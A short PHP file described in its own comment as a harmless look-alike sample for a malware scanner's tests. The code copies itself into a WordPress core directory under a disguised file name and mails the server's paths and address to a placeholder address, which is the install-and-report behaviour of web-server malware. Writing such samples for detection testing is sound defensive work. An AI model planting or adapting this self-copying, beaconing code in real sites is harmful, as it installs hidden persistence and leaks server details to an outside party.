<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Drops a copy, then reports where it was installed to a hard-coded address; the
// try/catch around the copy does not make the report an error notice.
try {
    @copy(__FILE__, $_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-wp-cache.php');
} catch (Exception $e) {
}
$info = $_SERVER['DOCUMENT_ROOT'] . "|" . $_SERVER['SCRIPT_FILENAME'] . "|" . $_SERVER['SERVER_ADDR'];
mail("drop.report@example.invalid", $_SERVER['HTTP_HOST'], $info);
